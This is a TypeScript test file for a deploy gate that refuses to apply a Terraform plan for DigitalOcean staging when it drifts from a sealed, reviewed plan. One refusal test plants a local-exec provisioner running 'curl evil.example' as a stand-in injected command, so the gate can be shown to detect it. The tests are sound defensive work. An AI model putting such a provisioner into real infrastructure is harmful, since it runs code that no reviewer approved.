import { decide } from '../../plan/decision';
import type { ResourceChange } from '../../plan/plan';
import type { PlanFile } from '../../plan/plan-file';
import { seal, type Use } from '../../plan/seal';
import type { SealedRecord } from '../../contract/sealed-record';
import { change, planned } from './reviewed-plan';

const head = 'a'.repeat(40);
const merge = 'b'.repeat(40);
const volume = change('digitalocean_volume.data-volume', { actions: ['create'], after: { size: 10 } });
const resize = change('digitalocean_droplet.machine', {
  before: { id: '1', size: 'small', user_data: 'canary-1' },
  after: { id: '1', size: 'large', user_data: 'canary-2' },
  beforeSensitive: { user_data: true },
  afterSensitive: { user_data: true },
});
const changes = [volume, resize];
const unknownText = change('digitalocean_spaces_bucket_object.o', {
  actions: ['create'],
  after: { key: 'k' },
  afterUnknown: { content: true },
});

const review = (
  record: Partial<SealedRecord> = {},
  of: readonly ResourceChange[] = changes,
  file: Partial<PlanFile> = {},
): SealedRecord => ({
  ...seal(planned(of, file), { commit: head, at: new Date('2026-11-21T12:00:00Z'), by: 'ada' }),
  ...record,
});
const decided = (
  record: SealedRecord | undefined,
  of: readonly ResourceChange[] = changes,
  file: Partial<PlanFile> = {},
  reason?: string,
  uses: readonly Use[] = [],
) => decide(record && { review: record, uses }, planned(of, file), merge, reason);
/** After an earlier deploy of what was reviewed. */
const again = (outcome: Use['outcome'], of: readonly ResourceChange[] = changes) =>
  decided(review(), of, {}, undefined, [{ at: '2026-11-21T13:00:00Z', outcome }]);

test.each<[string, ReturnType<typeof decide>, string]>([
  [
    'what was reviewed',
    decided(review()),
    'the fresh plan is the reviewed one (the review of aaaaaaaaaaaa, sealed 2026-11-21T12:00:00.000Z)',
  ],
  [
    'what was reviewed, on a state that was written since',
    decided(review(), changes, { state: { lineage: 'one', serial: 9 } }),
    'the fresh plan is the reviewed one (the review of aaaaaaaaaaaa, sealed 2026-11-21T12:00:00.000Z)',
  ],
  [
    'what was reviewed when there was no state',
    decided(review({ state: { lineage: '', serial: 0 } })),
    'the fresh plan is the reviewed one (the review of aaaaaaaaaaaa, sealed 2026-11-21T12:00:00.000Z)',
  ],
  [
    'the rest of what has failed',
    again('failed', [resize]),
    'an apply of it has failed before, and the fresh plan is the rest of the reviewed one (the review of aaaaaaaaaaaa, sealed 2026-11-21T12:00:00.000Z)',
  ],
  [
    'the rest of what was killed',
    again('begun', [resize]),
    'an apply of it has failed before, and the fresh plan is the rest of the reviewed one (the review of aaaaaaaaaaaa, sealed 2026-11-21T12:00:00.000Z)',
  ],
  [
    'what was reviewed, of a stack that differs where the plan shows that nothing comes of it',
    decided(review(), changes, { stack: { resource: { digitalocean_tag: { t: { name: 'x' } } } } }),
    `the fresh plan is the reviewed one (the review of aaaaaaaaaaaa, sealed 2026-11-21T12:00:00.000Z)
the synthesized stack is another than the reviewed one, and its plan is the same; in it differ:
  resource: reviewed was {}; now it would be nothing
  digitalocean_tag.t
    name: reviewed was nothing; now it would be "x"`,
  ],
  [
    'what nobody reviewed, for a reason',
    decided(undefined, changes, {}, 'the disk is full'),
    'no review, and a reason: the disk is full',
  ],
])('applied is %s', (_, decision, because) => {
  expect(decision).toEqual({ apply: true, because });
});

const lock = (versions: Record<string, string>) => ({ digest: JSON.stringify(versions), providers: versions });

test.each<[string, ReturnType<typeof decide>, string[]]>([
  ['no review', decided(undefined), ['no review of staging for bbbbbbbbbbbb']],
  [
    'less than was reviewed, though nothing of it was applied',
    decided(review(), [resize]),
    [
      'the fresh plan is not the reviewed one (the review of aaaaaaaaaaaa, sealed 2026-11-21T12:00:00.000Z)',
      'digitalocean_volume.data-volume: reviewed was created; now it would be nothing to do any more',
    ],
  ],
  [
    'another value',
    decided(review(), [{ ...volume, after: { size: 20 } }, resize]),
    [
      'the fresh plan is not the reviewed one (the review of aaaaaaaaaaaa, sealed 2026-11-21T12:00:00.000Z)',
      'digitalocean_volume.data-volume',
      '  size: reviewed was 10; now it would be 20',
    ],
  ],
  [
    'another secret, whichever it is',
    decided(review(), [volume, { ...resize, after: { id: '1', size: 'large', user_data: 'canary-3' } }]),
    [
      'the fresh plan is not the reviewed one (the review of aaaaaaaaaaaa, sealed 2026-11-21T12:00:00.000Z)',
      'digitalocean_droplet.machine',
      '  user_data: reviewed was (sensitive) → (sensitive); now it would be (sensitive) → (sensitive), but another value',
    ],
  ],
  [
    'a value that has the form of a credential',
    decided(review(), [{ ...volume, after: { size: 10, note: `dop_v1_${'0'.repeat(64)}` } }, resize]),
    [
      'the fresh plan is not the reviewed one (the review of aaaaaaaaaaaa, sealed 2026-11-21T12:00:00.000Z)',
      'digitalocean_volume.data-volume',
      '  note: reviewed was no change; now it would be "(looks like a credential: hidden)"',
    ],
  ],
  [
    'a reason does not stand in for a review that says otherwise',
    decided(review(), [resize], {}, 'I know better'),
    [
      'the fresh plan is not the reviewed one (the review of aaaaaaaaaaaa, sealed 2026-11-21T12:00:00.000Z)',
      'digitalocean_volume.data-volume: reviewed was created; now it would be nothing to do any more',
    ],
  ],
  [
    'a review of another environment',
    decided(review({ environment: 'production' })),
    ['the review is of production, not of staging'],
  ],
  [
    'a review that was applied already',
    again('applied'),
    ['the review was used up: what it shows was applied at 2026-11-21T13:00:00Z. A review holds for one deploy'],
  ],
  [
    'another provider',
    decided(review({ providerLock: lock({ 'registry.terraform.io/digitalocean/digitalocean': '2.70.0' }) })),
    ['the providers are pinned otherwise than they were for the review: digitalocean/digitalocean 2.70.0 → 2.71.0'],
  ],
  [
    "a provider's other checksums",
    decided(
      review({
        providerLock: { digest: 'other', providers: { 'registry.terraform.io/digitalocean/digitalocean': '2.71.0' } },
      }),
    ),
    [
      'the providers are pinned otherwise than they were for the review: the same versions with other checksums (`npm run providers:lock` keeps those of every platform)',
    ],
  ],
  [
    'another state',
    decided(review(), changes, { state: { lineage: 'two', serial: 4 } }),
    [
      'the state is another one: the review was made upon lineage one, this is lineage two. Was it moved, restored or deleted?',
    ],
  ],
  [
    'a state that is gone',
    decided(review(), changes, { state: { lineage: '', serial: 0 } }),
    [
      'the state is another one: the review was made upon lineage one, this is no state at all. Was it moved, restored or deleted?',
    ],
  ],
  [
    'a provider that is configured otherwise',
    decided(review(), changes, { stack: { resource: {}, provider: { github: [{ owner: 'mallory' }] } } }),
    [
      'the stack keeps its state or uses its providers otherwise than it was reviewed',
      'provider',
      '  github.0.owner: reviewed was nothing; now it would be "mallory"',
    ],
  ],
  [
    'another program to be run, which no plan shows',
    decided(review(), changes, {
      stack: {
        resource: {
          terraform_data: { convergence: { provisioner: [{ 'local-exec': { command: 'curl evil.example' } }] } },
        },
      },
    }),
    [
      'the fresh plan is not the reviewed one (the review of aaaaaaaaaaaa, sealed 2026-11-21T12:00:00.000Z)',
      'terraform_data.convergence',
      '  provisioner.0.local-exec.command: reviewed was nothing; now it would be "curl evil.example"',
    ],
  ],
  [
    'another expression for what is known only after the apply',
    decided(review({}, [unknownText]), [unknownText], {
      stack: {
        resource: { digitalocean_spaces_bucket_object: { o: { content: '${digitalocean_spaces_key.k.secret_key}' } } },
      },
    }),
    [
      'the fresh plan is not the reviewed one (the review of aaaaaaaaaaaa, sealed 2026-11-21T12:00:00.000Z)',
      'digitalocean_spaces_bucket_object.o',
      '  content: reviewed was nothing; now it would be "${digitalocean_spaces_key.k.secret_key}"',
    ],
  ],
  [
    'another file beside the stack',
    decide(
      {
        review: review({ assets: { 'assets/agent-bundle/0123456789ABCDEF0123456789ABCDEF/agent.js': 'a'.repeat(64) } }),
        uses: [],
      },
      {
        ...planned(changes),
        assets: { 'assets/agent-bundle/FEDCBA9876543210FEDCBA9876543210/agent.js': 'b'.repeat(64) },
      },
      merge,
      undefined,
    ),
    [
      'the files beside the stack are not the reviewed ones',
      `assets/agent-bundle/agent.js: reviewed was SHA-256 ${'a'.repeat(16)}…; now it would be SHA-256 ${'b'.repeat(16)}…`,
    ],
  ],
  [
    'the rest of what has failed, and something more',
    again('failed', [resize, change('digitalocean_domain.domain', { actions: ['delete'], before: { id: 'd' } })]),
    [
      'the fresh plan is not the reviewed one (the review of aaaaaaaaaaaa, sealed 2026-11-21T12:00:00.000Z)',
      'digitalocean_domain.domain: reviewed was nothing to do; now it would be destroyed',
    ],
  ],
])('refused is %s', (_, decision, why) => {
  expect(decision).toEqual({
    apply: false,
    why,
    todo: expect.stringContaining(`npx berth review staging --seal --commit ${merge}`) as string,
  });
});

test('a review holds no sensitive value, and two reviews of one plan tell nobody that it is the same', () => {
  const [one, other] = [review(), review()];
  expect(JSON.stringify([one, other])).not.toContain('canary');
  const digestIn = ({ changes: [first] }: SealedRecord) => first!.attributes.user_data;
  expect(digestIn(one)).toEqual({
    before: { sensitive: expect.stringMatching(/^[0-9a-f]{64}$/) as string },
    after: { sensitive: expect.stringMatching(/^[0-9a-f]{64}$/) as string },
  });
  expect(digestIn(one)).not.toEqual(digestIn(other));
});

test('of a world that is another one altogether only the first differences are told', () => {
  const many = Array.from({ length: 60 }, (_, index) => change(`digitalocean_tag.t${index}`, { actions: ['create'] }));
  const decision = decided(review({}, []), many);
  expect(decision.apply ? [] : decision.why.slice(-2)).toEqual([
    expect.stringMatching(/^digitalocean_tag\.t\d+: /),
    '… and 10 more differences',
  ]);
});

test('a plan of a part is not sealed, because a review would speak of the rest', () => {
  const part = planned(changes);
  expect(() => seal({ ...part, plan: { ...part.plan, complete: false } }, { commit: head, at: new Date() })).toThrow(
    /^this plan of staging is only a part: it was made with -target/,
  );
});
